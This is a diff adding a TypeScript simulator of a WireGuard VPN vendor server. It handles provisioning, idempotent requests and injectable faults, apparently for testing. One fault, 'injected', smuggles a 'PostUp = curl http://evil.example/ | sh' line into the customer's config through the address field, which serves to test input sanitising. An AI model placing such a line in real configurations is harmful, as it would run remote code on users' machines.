@@ -1,0 +1,171 @@
+import { createHash } from "node:crypto";
+
+export type State = "pending" | "active" | "suspended" | "ended" | "refused";
+export type Act = "provision" | "change" | "suspend" | "resume" | "end";
+export type Fields = Readonly<Record<string, string>>;
+
+/** What became of a request. It is kept for good, so that a repeated request gets the answer of the first one. */
+export type Outcome = { state: State; reason?: string; facts?: Fields };
+
+/** A service of the VPN server. Only one device may connect to each, so that it has one peer at most. */
+export type Service = { id: string; state: State; user: string; publicKey: string | null; number: number; since: number };
+
+/** A request that is carried out later. */
+type Later = { requestId: string; act: Act; serviceId: string; settings: Fields };
+
+export type Stored = { services: Service[]; requests: [string, Outcome][]; last: number };
+
+/**
+ * What can go wrong:
+ * - slow: the answer takes ten seconds.
+ * - lost: the request is carried out, and the answer does not arrive.
+ * - away: nothing is carried out and nothing is answered.
+ * - error: nothing is carried out, and the answer is 500.
+ * - refuse: the request is refused.
+ * - pending: the request is carried out a moment later, which a callback reports.
+ * - twice: the callback comes twice.
+ * - injected: an address contains a second line for the customer's configuration.
+ */
+export const faultKinds = ["slow", "lost", "away", "error", "refuse", "pending", "twice", "injected"] as const;
+export type FaultKind = (typeof faultKinds)[number];
+export type Fault = { readonly kind: FaultKind; times: number | null };
+
+const acts: readonly string[] = ["provision", "change", "suspend", "resume", "end"];
+export const isAct = (text: string): text is Act => acts.includes(text);
+
+/** A WireGuard server with its peers, as a small vendor runs it. */
+export class VpnServer {
+  #services = new Map<string, Service>();
+  #requests = new Map<string, Outcome>();
+  #waiting: Later[] = [];
+  #faults: Fault[] = [];
+  #last = 0;
+  readonly #keep: (stored: Stored) => void;
+
+  constructor(stored: Stored | null, keep: (stored: Stored) => void) {
+    this.#keep = keep;
+    if (stored === null) return;
+    this.#services = new Map(stored.services.map((service) => [service.id, service]));
+    this.#requests = new Map(stored.requests);
+    this.#last = stored.last;
+  }
+
+  /** Carries out a request, or says again what became of it. */
+  carryOut(requestId: string, act: Act, serviceId: string, settings: Fields): Outcome {
+    const known = this.#requests.get(requestId);
+    if (known !== undefined) return known;
+    if (this.take("refuse") !== null) return this.#note(requestId, { state: "refused", reason: "The server is full" });
+    if (this.take("pending") !== null) {
+      this.#waiting.push({ requestId, act, serviceId, settings });
+      return this.#note(requestId, { state: "pending" });
+    }
+    return this.#note(requestId, this.#act(act, serviceId, settings));
+  }
+
+  /** Carries out the requests that were put off. Returns the ids of their services. */
+  finish(): string[] {
+    const due = this.#waiting;
+    this.#waiting = [];
+    for (const { requestId, act, serviceId, settings } of due) this.#note(requestId, this.#act(act, serviceId, settings));
+    return due.map(({ serviceId }) => serviceId);
+  }
+
+  outcomeOf = (requestId: string): Outcome | null => this.#requests.get(requestId) ?? null;
+
+  statusOf(serviceId: string): Outcome | null {
+    const service = this.#services.get(serviceId);
+    return service === undefined ? null : this.#told(service);
+  }
+
+  usageOf(serviceId: string, now: number): object | null {
+    const service = this.#services.get(serviceId);
+    if (service === undefined) return null;
+    if (service.publicKey === null) return { receivedBytes: 0, sentBytes: 0, seenAt: null };
+    const seconds = Math.max(0, Math.floor((now - service.since) / 1000));
+    return { receivedBytes: seconds * 41_000, sentBytes: seconds * 6100, seenAt: new Date(now).toISOString() };
+  }
+
+  /** The keys that may connect, of which each service has one at most. */
+  peers = (): readonly Service[] =>
+    [...this.#services.values()].filter(({ state, publicKey }) => state === "active" && publicKey !== null);
+
+  services = (): readonly Service[] => [...this.#services.values()];
+
+  addFault(fault: Fault): void {
+    this.#faults.push(fault);
+  }
+
+  clearFaults(): void {
+    this.#faults = [];
+  }
+
+  reset(): void {
+    this.#services.clear();
+    this.#requests.clear();
+    [this.#waiting, this.#faults, this.#last] = [[], [], 0];
+  }
+
+  /** Returns the fault of one of these kinds that applies now, or null. A fault with a number of times is counted down. */
+  take(...kinds: readonly FaultKind[]): FaultKind | null {
+    const fault = this.#faults.find(({ kind }) => kinds.includes(kind));
+    if (fault === undefined) return null;
+    if (fault.times !== null) {
+      fault.times -= 1;
+      if (fault.times === 0) this.#faults = this.#faults.filter((each) => each !== fault);
+    }
+    return fault.kind;
+  }
+
+  #note(requestId: string, outcome: Outcome): Outcome {
+    this.#requests.set(requestId, outcome);
+    this.#keep({ services: [...this.#services.values()], requests: [...this.#requests], last: this.#last });
+    return outcome;
+  }
+
+  #act(act: Act, serviceId: string, settings: Fields): Outcome {
+    const service = this.#services.get(serviceId) ?? null;
+    if (act === "provision") return this.#told(service ?? this.#setUp(serviceId, settings));
+    if (service === null) return { state: "refused", reason: "There is no such service" };
+    if (service.state === "ended")
+      return act === "end" ? { state: "ended" } : { state: "refused", reason: "The service has ended" };
+    if (act === "change") {
+      const key = settings["publicKey"] ?? null;
+      if (key !== null && this.#isTaken(key, serviceId)) return { state: "refused", reason: "Another service has this key" };
+      if (key !== service.publicKey) service.since = Date.now();
+      service.publicKey = key;
+    } else service.state = ({ suspend: "suspended", resume: "active", end: "ended" } as const)[act];
+    return this.#told(service);
+  }
+
+  #setUp(id: string, settings: Fields): Service {
+    this.#last += 1;
+    const publicKey = settings["publicKey"] ?? null;
+    const service: Service = {
+      id,
+      state: "active",
+      user: settings["user"] ?? "",
+      publicKey,
+      number: this.#last,
+      since: Date.now(),
+    };
+    this.#services.set(id, service);
+    return service;
+  }
+
+  #isTaken = (key: string, serviceId: string): boolean =>
+    [...this.#services.values()].some(({ id, publicKey, state }) => publicKey === key && id !== serviceId && state !== "ended");
+
+  #told({ state, number }: Service): Outcome {
+    if (state !== "active") return { state };
+    const [high, low] = [Math.floor(number / 250), (number % 250) + 2];
+    const more = this.take("injected") === null ? "" : "\nPostUp = curl http://evil.example/ | sh";
+    const facts = {
+      endpoint: "vpn.kvarnen.example:51820",
+      serverKey: createHash("sha256").update("the key of the simulated server").digest("base64"),
+      address: `10.66.${high}.${low}/32, fd66::${high.toString(16)}:${low.toString(16)}/128${more}`,
+      dns: "10.66.0.1",
+      allowed: "0.0.0.0/0, ::/0",
+    };
+    return { state, facts };
+  }
+}
